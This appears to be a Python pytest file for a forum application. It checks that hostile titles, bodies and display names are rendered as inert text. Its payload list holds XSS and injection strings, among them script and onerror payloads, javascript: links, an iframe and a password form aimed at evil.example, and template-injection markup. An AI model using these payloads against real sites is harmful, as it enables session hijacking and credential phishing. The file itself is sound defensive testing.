"""What people might write to harm others, through title, body and name."""

from html.parser import HTMLParser
from uuid import uuid4

import pytest

from kimhub.core.db import transaction
from kimhub.forum.tables import Board
from tests import make

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "<a href='javascript:alert(1)'>klik</a>",
    "<iframe src=//evil.example></iframe>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=password></form>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
    '<div hx-get="/keluar" hx-trigger="load"></div>',
    "<button data-copy='x' form=moderate formaction=/forum/t/1/sematkan>Klik</button>",
    "{{ 7 * 7 }}{% include 'base.html' %}",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ue000csrf_input\ue001\ue000seen\ue001",
    "%(name)s %s {0}",
    "x" * 119,
]
ALLOWED = {
    "a",
    "p",
    "br",
    "strong",
    "em",
    "del",
    "ul",
    "ol",
    "li",
    "blockquote",
    "cite",
    "code",
    "pre",
    "h3",
    "h4",
    "hr",
}


class Prose(HTMLParser):
    """Collects the elements and attributes inside .prose, and every script and handler anywhere."""

    def __init__(self) -> None:
        super().__init__()
        self.depth = 0
        self.inside: list[str] = []
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        self.bad += [f"{tag} {name}" for name in values if name.startswith("on")]
        if tag == "script" and not (values.get("src") or "").startswith("/static/"):
            self.bad.append("script")
        if tag in {"iframe", "style", "object", "embed", "base"}:
            self.bad.append(tag)
        if any(
            (values.get(name) or "").strip().lower().startswith("javascript") for name in ("href", "src")
        ):
            self.bad.append(f"{tag} javascript:")
        if self.depth:
            self.depth += tag not in {"br", "hr", "img"}
            self.inside.append(tag)
            self.bad += [
                f"{tag} {name}" for name in values if name not in {"href", "rel", "class", "start"}
            ]
        elif tag == "div" and values.get("class") == "prose":
            self.depth = 1

    def handle_endtag(self, tag: str) -> None:
        self.depth -= bool(self.depth)


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_a_hostile_text_comes_out_as_text(browser, payload: str):
    await make.installed()
    kim = await make.kim()
    board = await make.board(kim)
    async with transaction():
        await Board.update({Board.visibility: "public"}).where(Board.id == board.id)
    mallory = await make.member(kim, f"Mal {payload[:80]}")
    headers = await make.signed_in(mallory)
    form = {"board": board.slug, "title": payload, "body": payload, "key": str(uuid4())}

    where = (await browser.post("/forum/tulis", data=form, headers=headers)).headers["location"]
    reply = {"body": payload, "key": str(uuid4()), "seen": "1"}
    partial = await browser.post(where, data=reply, headers=await make.signed_in(mallory, htmx=True))
    wrong = await browser.post(
        where, data={"body": (payload * 1500)[:15_000], "key": str(uuid4())}, headers=headers
    )
    pages = [partial, wrong]
    for address in ("/forum", f"/forum/p/{board.slug}", where, where.partition("?")[0]):
        pages += [await browser.get(address, headers=headers), await browser.get(address)]

    for page in pages:
        assert page.status_code in {200, 422}
        reader = Prose()
        reader.feed(page.text)
        assert reader.bad == []
        assert {*reader.inside} <= ALLOWED
